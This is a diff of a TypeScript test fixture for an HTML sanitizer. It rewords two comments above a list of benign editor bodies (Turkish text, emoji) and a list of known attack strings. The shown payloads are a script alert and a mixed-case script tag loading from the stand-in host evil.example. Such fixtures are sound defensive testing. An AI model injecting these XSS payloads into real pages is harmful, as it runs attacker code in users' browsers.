@@ -1,6 +1,6 @@
 import { Window } from 'happy-dom'
 
-/** What editors write, each by what is peculiar to it. */
+/** Bodies that editors write, each under the name of what is peculiar to it. */
 export const untouched: Record<string, string> = {
   'plain text': 'Abonelik iptali nasıl yapılır? 3 < 5 & 7 > 2',
   'a paragraph': '<p>İstanbul’da ışık</p>',
@@ -50,7 +50,7 @@ export const untouched: Record<string, string> = {
   emoji: '<p>👩‍👩‍👧 ₺ ğüşiöç</p>',
 }
 
-/** What was tried against cleaners of HTML, each a way to run code, to lead elsewhere or to cover the page. */
+/** Known attacks on HTML sanitizers: each tries to run code, to lead elsewhere or to cover the page. */
 export const payloads = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example></sCrIpT>',
